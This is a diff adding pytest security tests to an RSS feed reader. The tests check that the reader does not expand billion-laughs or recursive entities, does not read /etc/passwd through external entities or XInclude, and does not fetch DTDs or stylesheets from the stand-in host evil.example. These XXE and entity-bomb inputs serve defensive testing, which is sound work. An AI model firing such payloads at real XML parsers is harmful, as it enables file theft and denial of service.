@@ -98,12 +98,68 @@ def test_what_is_no_feed_has_no_posts(body: str) -> None:
     assert read(body).posts == ()
 
 
-def test_an_entity_is_not_expanded() -> None:
-    """A billion laughs stay one, and no file is read into a text."""
-    laughs = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
+LAUGHS = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
+LONG = f'\n<!ENTITY a9 "{"x" * 100_000}">\n'
+
+
+@pytest.mark.parametrize(
+    "before", ["", "<?xml version='1.0'?>", "<?x y?>", "\ufeff", "<!-- <rss> -->", "<rss/>", "<rss>"]
+)
+@pytest.mark.parametrize(
+    "declared", [LAUGHS, LONG, '<!ENTITY a9 SYSTEM "file:///etc/passwd">', '<!ENTITY a9 "&b;"><!ENTITY b "&a9;">']
+)
+def test_an_entity_is_not_expanded(before: str, declared: str) -> None:
+    """A billion laughs stay one, and no file is read into a text, wherever they are declared."""
+    used = "&a9;" * (1 if declared is LAUGHS else 2_000)
     body = (
-        f'<!DOCTYPE rss [<!ENTITY a0 "ha"><!ENTITY f SYSTEM "file:///etc/passwd">{laughs}]>'
-        "<rss version='2.0'><channel><item><guid>1</guid><title>t</title><description>&a9;&f;</description></item>"
+        f"{before}<!DOCTYPE rss [{declared}]>"
+        f"<rss version='2.0'><channel><item><guid>1</guid><title>t</title><description>{used}</description></item>"
         "</channel></rss>"
     )
-    assert all(len(post.body) < 1000 and "root:" not in post.body for post in read(body).posts)
+    assert all(len(post.body) <= 8_000 and "root:" not in post.body for post in read(body).posts)
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        '<!DOCTYPE rss SYSTEM "http://evil.example/x.dtd">{}',
+        '<?x y?><!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>{}',
+        '<?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?>{}',
+        '<rss version="2.0"><x:include xmlns:x="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/></rss>{}',
+    ],
+)
+def test_a_feed_leads_to_no_other_file(body: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Neither a DTD nor a stylesheet nor an inclusion is opened or fetched."""
+
+    def opened(*_: object, **__: object) -> None:
+        raise AssertionError("a feed opened something")
+
+    for name in ("socket.socket.connect", "socket.getaddrinfo", "urllib.request.urlopen", "builtins.open"):
+        monkeypatch.setattr(name, opened)
+    item = "<rss version='2.0'><channel><item><guid>1</guid><title>t</title></item></channel></rss>"
+    assert all("root:" not in post.body for post in read(body.format(item)).posts)
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        "<rss version='2.0'><channel>" + "<item><a>" * 200_000,
+        "<rss " + " ".join(f"a{number}='x'" for number in range(100_000)) + "><channel/></rss>",
+    ],
+)
+def test_a_feed_beyond_all_measure_is_named(body: str) -> None:
+    """A parser would be busy with it for minutes."""
+    assert read(body).signals == ("page:overgrown",)
+
+
+def test_a_picture_within_a_feed_is_no_measure() -> None:
+    """A long tag is none of many attributes."""
+    picture = f"<img src='data:image/png;base64,{'A' * 50_000}='>"
+    item = f"<item><guid>1</guid><description><![CDATA[路{picture}断了]]></description></item>"
+    assert [post.body for post in read(f"<rss version='2.0'><channel>{item}</channel></rss>").posts] == ["路断了"]
+
+
+def test_names_of_html_stand_without_a_declaration() -> None:
+    """Feeds use &nbsp; and the like though nobody declared them."""
+    item = "<item><guid>1</guid><title>路&nbsp;断&middot;了&copy;</title></item>"
+    assert [post.title for post in read(f"<rss version='2.0'><channel>{item}</channel></rss>").posts] == ["路 断·了©"]
